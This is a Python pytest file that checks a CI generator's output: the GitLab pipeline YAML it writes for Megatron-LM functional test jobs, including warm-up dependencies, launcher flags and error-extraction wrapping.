LAUNCH = "export PYTHONPATH=$(pwd); python tests/test_utils/python_scripts/launch_jet_workload.py"
PARENT = '$CI_PIPELINE_SOURCE == "parent_pipeline" || $CI_MERGE_REQUEST_ID'


def generators_pipeline(order: list[tuple[str, str, bool]], *, warm_up: bool) -> dict:
    """The file Megatron-LM's generator writes for `call_args` on the tree of
    `test_the_whole_file_is_the_generators`, written out from its rules: jobs in
    order of model (stable), stages the sorted models, and with warm-up the
    first job a need of every later one."""
    document: dict = {
        "stages": sorted({model for model, _, _ in order}),
        "workflow": {
            "rules": [
                {
                    "if": f'({PARENT}) && $CI_COMMIT_BRANCH == "main"',
                    "auto_cancel": {"on_new_commit": "interruptible"},
                },
                {"if": PARENT},
                {"when": "never"},
            ],
            "auto_cancel": {"on_new_commit": "interruptible"},
        },
        "default": {"interruptible": True, "retry": {"max": 2, "when": "runner_system_failure"}},
    }
    first = order[0][1]
    for model, case, allowed in order:
        needs = [{"pipeline": "$PARENT_PIPELINE_ID", "job": "functional:configure"}]
        if warm_up and case != first:
            needs.append({"job": first})
        document[case] = {
            "stage": model,
            "image": "img:7",
            "tags": [
                "arch/amd64",
                "env/prod",
                "origin/jet-fleet",
                "owner/jet-core",
                "purpose/jet-client",
                "team/megatron",
                "cluster/eos",
            ],
            "timeout": "7 days",
            "needs": needs,
            "script": [
                f"{LAUNCH} --model {model} --environment dev --n-repeat 3 --time-limit 900 "
                f"--scope mr --test-case '{case}' --container-tag 7 --cluster dgxh100_eos "
                "--platform dgx_h100 --record-checkpoints None --account acct"
            ],
            "artifacts": {"paths": ["results/"], "when": "always"},
            "allow_failure": allowed,
            "retry": {
                "max": 2,
                "when": ["unknown_failure", "stuck_or_timeout_failure", "runner_system_failure"],
            },
        }
    return document


@pytest.mark.parametrize("warm_up", [True, False])
def test_the_whole_file_is_the_generators(
    tree: Callable, cli: Callable, tmp_path: Path, warm_up: bool
) -> None:
    """The file of one call, every key of it, as Megatron-LM's generator writes it
    (test_jet_upstream.py runs the generator itself where its files are present):
    bert's file is listed after gpt's, but its model sorts first, so its job is
    the one every other job waits for when warm-up is on (the generator's default)."""
    root = jet_tree(tree, extra={"h100/zz_bert.yaml": BERT})
    out = tmp_path / "mr.yaml"
    args = [
        "jet-trigger",
        *("--scope", "mr", "--environment", "dev", "--platform", "dgx_h100"),
        *("--cluster", "dgxh100_eos", "--test-cases", "all", "--container-image", "img"),
        *("--container-tag", "7", "--dependent-job", "functional:configure"),
        *("--slurm-account", "acct", "--n-repeat", "3", "--time-limit", "900"),
        *("--output-path", str(out), "--recipes", str(root)),
        *(() if warm_up else ("--no-enable-warmup",)),
    ]
    run = cli(*args)
    assert run.code == 0, run
    order = [("bert", "bert_x", True)] + [("gpt", c, False) for c in ("gpt_a", "gpt_b", "gpt_c")]
    expected = generators_pipeline(order, warm_up=warm_up)
    assert yaml.safe_load(out.read_text(encoding="utf-8")) == expected
    # The generator dumps with sorted keys: so does jet-trigger, byte for byte the order.
    assert list(yaml.safe_load(out.read_text(encoding="utf-8"))) == sorted(expected)


def test_one_selected_job_waits_for_no_warm_up(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree)
    out = tmp_path / "one.yaml"
    base = call(root, out, "--test-cases", "gpt_b")
    run = cli(*[a for a in base if a != "--no-enable-warmup"])
    assert run.code == 0, run
    assert jobs_of(out)["gpt_b"]["needs"] == [
        {"pipeline": "$PARENT_PIPELINE_ID", "job": "functional:configure"}
    ]


def test_every_launcher_option_is_written_as_the_generator_writes_it() -> None:
    """Each optional flag in the generator's order (`--partition`, `--tag`,
    lightweight mode, the run name and its W&B experiment per job)."""
    job = _job("gpt_a")
    full = plain_call(
        partition="batch",
        tag="latest",
        enable_lightweight_mode=True,
        run_name="release/x",
        wandb_experiment="release-x",
        record_checkpoints="true",
        n_repeat=5,
        time_limit=2700,
    )
    assert launcher_command(job, full) == (
        f"{LAUNCH} --model gpt --environment dev --n-repeat 5 --time-limit 2700 --scope mr "
        "--test-case 'gpt_a' --container-tag 7 --cluster ghci --platform dgx_h100 "
        "--record-checkpoints true --account acct --partition batch --tag latest "
        "--enable-lightweight-mode --run-name release/x --wandb-experiment release-x-gpt-gpt_a"
    )
    # A run name without an experiment (or the reverse) writes neither.
    for half in (plain_call(run_name="r"), plain_call(wandb_experiment="w")):
        assert "--run-name" not in launcher_command(job, half)
        assert "--wandb-experiment" not in launcher_command(job, half)


def test_error_extraction_wraps_the_launcher_and_keeps_its_exit_code(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    out = tmp_path / "mr.yaml"
    run = run_jet(cli, jet_tree(tree), out, "--enable-error-extraction")
    assert run.code == 0, run
    job = jobs_of(out)["gpt_a"]
    command = (
        f"{LAUNCH} --model gpt --environment dev --n-repeat 1 --time-limit 1 --scope mr "
        "--test-case 'gpt_a' --container-tag 7 --cluster dgxh100_eos --platform dgx_h100 "
        "--record-checkpoints None --account acct"
    )
    assert job["script"] == [
        "\n".join(
            [
                "set +e",
                "set -o pipefail",
                f"{command} 2>&1 | tee jet_workload.log",
                "exit_code=${PIPESTATUS[0]}",
                "set -e",
                "extract-errors jet_workload.log --output error_report.json "
                '--exit-code "$exit_code" || true',
                'exit "$exit_code"',
            ]
        )
    ]
    assert job["artifacts"] == {
        "paths": ["results/", "jet_workload.log", "error_report.json"],
        "when": "always",
    }


@pytest.mark.parametrize("reaches", [True, False])
def test_a_node_level_entry_on_a_bucket_needs_a_script_that_reaches_the_plugin(
    tree: Callable, cli: Callable, reaches: bool
) -> None:
    script = "MATRIXGEN_QUARANTINE=q.yaml bash run_ci_test.sh" if reaches else "bash run_ci_test.sh"
    unit = UNIT.replace("bash run_ci_test.sh --bucket {test_case}", script)
    mute = entry("data-node", "mute", "tests/unit_tests/data/", node_ids="tests/x.py::test_x")
    root = tree(
        {"h100/unit-tests.yaml": unit, "_build-mcore-dev.yaml": BUILD,
         "quarantine.yaml": "entries:\n" + mute}
    )  # fmt: skip
    run = cli("jet-buckets", root / "h100/unit-tests.yaml", "--recipes", root, "--system", "gitlab")
    if reaches:
        assert run.code == 0, run
        assert {"bucket": "tests/unit_tests/data/"} in json.loads(run.out)
    else:
        assert run.code != 0 and run.out == "", run
        assert "data-node" in run.err and "MATRIXGEN_QUARANTINE" in run.err
